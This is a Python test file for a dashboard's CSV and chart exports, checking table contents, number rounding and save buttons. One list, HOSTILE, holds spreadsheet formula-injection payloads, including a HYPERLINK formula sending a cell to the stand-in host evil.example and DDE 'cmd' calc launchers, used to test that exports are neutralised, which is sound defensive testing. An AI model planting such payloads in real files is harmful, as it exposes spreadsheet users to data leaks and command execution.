"""CSV downloads: each table's frame holds the figures the page shows, and every chart can save a PNG."""

import csv
import io

import pandas as pd
from bokeh.models import SaveTool
from numpy.testing import assert_allclose

from core.evidence.fidelity import report
from core.simulator.batching import SWEEP_BATCHES
from labs.batching import BatchingLab
from labs.pool.lab import PoolLab
from labs.reality.lab import RealityLab
from labs.widgets.exports import batch_sweep_frame, cases_frame, csv_button, csv_text


def test_csv_button_writes_what_pandas_reads_back():
    """The download is plain CSV: read back, it is the same table."""
    frame = pd.DataFrame({"seats": [1, 2], "label": ["a, b", "c"]})
    button = csv_button(lambda: frame, "t.csv")
    text = button.callback().read()
    assert_allclose(pd.read_csv(io.StringIO(text))["seats"], [1, 2])
    assert pd.read_csv(io.StringIO(text))["label"].tolist() == ["a, b", "c"]
    assert button.filename == "t.csv"


def test_mattered_table_downloads_its_effects():
    """Pool's mattered-vs-noise CSV has a row per knob with core's changes and the verdict shown."""
    lab = PoolLab()
    lab.scenario.seats = 64
    frame = lab.mattered.frame()
    assert frame["knob"].tolist() == [effect.knob for effect in lab.mattered.effects]
    seats = frame.set_index("knob").loc["seats"]
    effect = next(e for e in lab.mattered.effects if e.knob == "seats")
    assert_allclose(seats["change_in_monthly_usd"], effect.changes["monthly_usd"])
    assert seats["verdict"] == ("mattered" if effect.mattered else "noise")


def test_published_cases_download_with_both_levels():
    """Every published case is a row with its measurement and both levels' ratios."""
    r = report()
    frame = cases_frame(r)
    assert frame["case"].tolist() == [case.key for case in r.cases]
    assert_allclose(frame["engine_over_measured"], r.steps[:, -1])
    assert_allclose(frame["measured"], [case.measured for case in r.cases])


def test_batch_sweep_downloads_every_run():
    """One row per batch size and scheduler, with the engine's measured figures."""
    lab = BatchingLab()
    frame = batch_sweep_frame(SWEEP_BATCHES, lab.engine.sweep)
    assert len(frame) == len(SWEEP_BATCHES) * len(lab.engine.sweep)
    continuous = frame[frame["scheduler"] == "continuous"]
    assert_allclose(
        continuous["output_tokens_per_s"],
        [run.output_tokens_per_s for run in lab.engine.sweep["continuous"]],
    )


def test_every_chart_has_a_save_button():
    """Each Bokeh figure of the pool and reality labs carries Bokeh's SaveTool."""
    figures = [PoolLab().ledger.memory_figure]
    reality = RealityLab()
    figures += [reality.throughput_chart, reality.latency_chart, reality.waterfall_chart]
    for figure in figures:
        assert any(isinstance(tool, SaveTool) for tool in figure.tools)


def test_a_download_carries_rounded_figures():
    """A CSV's floats come at four significant figures (whole numbers kept), NaN left empty."""
    from labs.widgets.exports import csv_text

    frame = pd.DataFrame(
        {"rate": [1698.4726489, 123456.78], "ttft": [0.027118339, float("nan")], "n": [3, 4]}
    )
    text = csv_text(frame)
    assert text.splitlines() == ["rate,ttft,n", "1698,0.02712,3", "123457,,4"]
    from core.foundation.units import rounded

    assert rounded([1e-300, 0.0, float("inf"), -2.34567])[3] == -2.346
    assert rounded([1e-300])[0] == 1e-300


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' -c calc'!A0.json",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def test_every_text_cell_of_a_download_is_inert():
    """A text cell or column name opening as a formula is written with a leading quote."""
    frame = pd.DataFrame({"model": HOSTILE, "ttft_s": [0.1, -0.2, 3.0, 4.0, 5.0, 6.0]})
    frame["=name"] = "plain"
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    cells = [cell for row in rows for cell in row]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert "'=name" in rows[0]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_numbers_stay_numbers_in_a_download():
    """Negative and positive numbers are written as numbers, not quoted text."""
    frame = pd.DataFrame({"change": [-3.5, 2.0], "label": ["a", "b"]})
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert_allclose(back["change"], [-3.5, 2.0])
    assert back["change"].dtype.kind == "f"
